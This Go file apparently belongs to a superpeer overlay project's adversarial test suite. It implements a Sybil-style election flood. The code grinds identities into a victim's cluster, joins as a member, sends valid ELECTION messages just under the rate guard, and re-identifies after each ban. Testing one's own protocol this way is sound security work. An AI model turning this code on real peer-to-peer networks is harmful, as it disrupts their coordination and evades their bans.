package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"github.com/superpeer/superpeer/classic"
	"github.com/superpeer/superpeer/classic/pb"
	"github.com/superpeer/superpeer/dhtselect"
	"github.com/superpeer/superpeer/gossip"
)

// The flood of election messages (issue 19, finding 1) is an attack of
// valid messages from a member: each is what an honest member may send,
// only too many. So Member and ElectionFlood encode them with the
// overlay's own encoders (gossip.Announcement, classic/pb), which are the
// wire format's definition, rather than by hand as Frame does for
// malformed frames.

// Member makes a hostile host a member of an overlay network as the DHT
// strategy's cluster-scoped membership admits one: it registers itself
// every interval, with a record sealed by its own key as an ordinary
// member of its cluster at k, with the superpeer of its cluster (found by
// asking the nodes it is connected to, which name the superpeer they
// follow). The superpeer's registry takes it, and its roster carries it
// to the cluster's members, so it is a member of the cluster its key
// falls in, and their election machines take its messages (they drop
// those of non-members). It runs no election of its own and answers
// nothing: whatever it sends is its attack's (see ElectionFlood). (It
// announced itself on the global membership topic, which the DHT
// strategy no longer reads.)
type Member struct {
	h      host.Host
	cancel context.CancelFunc
	done   chan struct{}

	mu sync.Mutex
	sp peer.ID // the superpeer that took the last registration
}

// JoinAsMember starts registering h with its cluster's superpeer on
// network every interval, as a member at k (its cluster key follows from
// its ID, as the registries check). Connect h to some of the network's
// nodes first (or after: the registrations go out every interval). Close
// stops it.
func JoinAsMember(ctx context.Context, h host.Host, network string, k int, interval time.Duration) (*Member, error) {
	if interval <= 0 || k < 0 || k > dhtselect.MaxK {
		return nil, fmt.Errorf("attack: JoinAsMember: interval %v, k %d: want an interval > 0 and k in [0, %d]", interval, k, dhtselect.MaxK)
	}
	key := h.Peerstore().PrivKey(h.ID())
	if key == nil {
		return nil, fmt.Errorf("attack: JoinAsMember: no private key for %s", h.ID())
	}
	rec, err := gossip.SealAnnouncement(gossip.Announcement{ID: h.ID(), Addrs: h.Addrs(), K: k, ClusterKey: dhtselect.KeyOf(h.ID()).Cluster(k),
		Seq: uint64(time.Now().UnixNano())}, key)
	if err != nil {
		return nil, fmt.Errorf("attack: JoinAsMember: %w", err)
	}
	ctx, cancel := context.WithCancel(ctx)
	m := &Member{h: h, cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(m.done)
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			m.mu.Lock()
			sp := m.sp
			m.mu.Unlock()
			sp = registerAnywhere(ctx, h, network, sp, rec)
			m.mu.Lock()
			m.sp = sp
			m.mu.Unlock()
			select {
			case <-ctx.Done():
				return
			case <-t.C:
			}
		}
	}()
	return m, nil
}

// Superpeer is the superpeer that took the member's last registration
// (empty: none did).
func (m *Member) Superpeer() peer.ID {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.sp
}

// Close stops registering.
func (m *Member) Close() error {
	m.cancel()
	<-m.done
	return nil
}

// FloodStats counts an ElectionFlood's messages: Sent were written on an
// open stream, Refused found no stream (the target refused or reset it,
// or banned the attacker and closed the connection).
type FloodStats struct {
	Sent, Refused atomic.Uint64
}

// ElectionFlood sends every target the election message msg (To set to
// the target; From is the stream's, the attacker's authenticated ID)
// rate times a second, one stream each as the overlay's own election
// messages go, until ctx ends; the returned stats count them as they go,
// and wait blocks until the flood has stopped. With msg an ELECTION from
// a member of the targets' cluster ranked below them, it is issue 19's
// finding 1: at 45 a second it stays under a peer's guard (50 streams a
// second, a burst of 100), and each message is valid.
func ElectionFlood(ctx context.Context, h host.Host, network string, targets []peer.ID, rate float64, msg classic.Message) (stats *FloodStats, wait func()) {
	stats = &FloodStats{}
	proto := Protocol(network, "election")
	every := time.Duration(float64(time.Second) / rate)
	var wg sync.WaitGroup
	for _, to := range targets {
		m := msg
		m.To = classic.ID(to)
		data, err := pb.Marshal(m)
		if err != nil {
			stats.Refused.Add(1)
			continue
		}
		frame := append(binary.AppendUvarint(nil, uint64(len(data))), data...)
		wg.Add(1)
		go func() {
			defer wg.Done()
			t := time.NewTicker(every)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				if sendElection(ctx, h, to, proto, frame) {
					stats.Sent.Add(1)
				} else {
					stats.Refused.Add(1)
				}
			}
		}()
	}
	return stats, wg.Wait
}

// sendElection writes one election frame on a new stream to p, within
// a second, and reports whether it went out.
func sendElection(ctx context.Context, h host.Host, p peer.ID, proto protocol.ID, frame []byte) bool {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, p, proto)
	if err != nil {
		return false
	}
	_ = s.SetDeadline(time.Now().Add(time.Second))
	if _, err := s.Write(frame); err != nil {
		_ = s.Reset()
		return false
	}
	return s.Close() == nil
}

// ElectionFloodAttack is issue 19's finding 1 as an attack of the live
// suite (Attack.Run): it learns the victim's k from its announcement on
// the membership topic, grinds an identity in the victim's cluster ranked
// below it (its key shares the victim's k-bit prefix and is farther from
// the cluster key), becomes a member (JoinAsMember) and sends every node
// of the swarm ELECTION 45 times a second (the victim and its cluster's
// members take them; the others drop them, from a non-member). When the
// victim bans the identity it starts again under a fresh one, until ctx
// ends.
func ElectionFloodAttack(ctx context.Context, t Target) error {
	k, err := victimK(ctx, t)
	if err != nil {
		return err
	}
	vk := dhtselect.KeyOf(t.Victim.ID)
	cluster := vk.Cluster(k)
	var targets []peer.ID
	for _, n := range t.Nodes {
		targets = append(targets, n.ID)
	}
	for ctx.Err() == nil {
		priv, err := grind(func(key dhtselect.Key) bool {
			return key.Cluster(k) == cluster && dhtselect.Closer(vk, key, cluster)
		})
		if err != nil {
			return err
		}
		h, err := NewHost(libp2p.Identity(priv))
		if err != nil {
			return err
		}
		for _, n := range t.Nodes {
			_ = h.Connect(ctx, n)
		}
		m, err := JoinAsMember(ctx, h, t.Network, k, time.Second)
		if err == nil {
			fctx, stop := context.WithCancel(ctx)
			_, wait := ElectionFlood(fctx, h, t.Network, targets, 45, classic.Message{Type: classic.MsgElection})
			for fctx.Err() == nil && h.Network().Connectedness(t.Victim.ID) == network.Connected {
				select {
				case <-fctx.Done():
				case <-time.After(100 * time.Millisecond):
				}
			}
			stop()
			wait()
			_ = m.Close()
		}
		_ = h.Close()
		select {
		case <-ctx.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	return nil
}

// victimK reads the victim's k as any peer can: a throwaway host
// registers with the victim, or with the superpeer it follows, and reads
// the k of the digest that comes back (the victim's cluster's superpeer's
// k). (It read the victim's announcement on the global membership topic,
// which the DHT strategy no longer has.)
func victimK(ctx context.Context, t Target) (int, error) {
	h, err := NewHost()
	if err != nil {
		return 0, err
	}
	defer h.Close()
	if err := h.Connect(ctx, t.Victim); err != nil {
		return 0, fmt.Errorf("attack: connect to the victim %s: %w", t.Victim.ID, err)
	}
	rec, err := gossip.SealAnnouncement(gossip.Announcement{ID: h.ID(), Addrs: h.Addrs(), Seq: uint64(time.Now().UnixNano())},
		h.Peerstore().PrivKey(h.ID()))
	if err != nil {
		return 0, err
	}
	for {
		a, err := Register(ctx, h, t.Network, t.Victim.ID, rec)
		if err == nil && a.Status == RegNotSuperpeer && a.Hint != "" {
			for _, n := range t.Nodes {
				if n.ID == a.Hint {
					_ = h.Connect(ctx, n)
				}
			}
			a, err = Register(ctx, h, t.Network, a.Hint, rec)
		}
		if err == nil && a.Status != RegNotSuperpeer {
			return a.K, nil
		}
		select {
		case <-ctx.Done():
			return 0, fmt.Errorf("attack: no digest from the victim %s or its superpeer: %w (last: %v)", t.Victim.ID, ctx.Err(), err)
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// grind draws Ed25519 identities until one's Kademlia key satisfies ok
// (a million draws at most).
func grind(ok func(dhtselect.Key) bool) (crypto.PrivKey, error) {
	for range 1 << 20 {
		priv, _, err := crypto.GenerateEd25519Key(nil)
		if err != nil {
			return nil, err
		}
		id, err := peer.IDFromPrivateKey(priv)
		if err != nil {
			return nil, err
		}
		if ok(dhtselect.KeyOf(id)) {
			return priv, nil
		}
	}
	return nil, fmt.Errorf("attack: no identity found in a million draws")
}
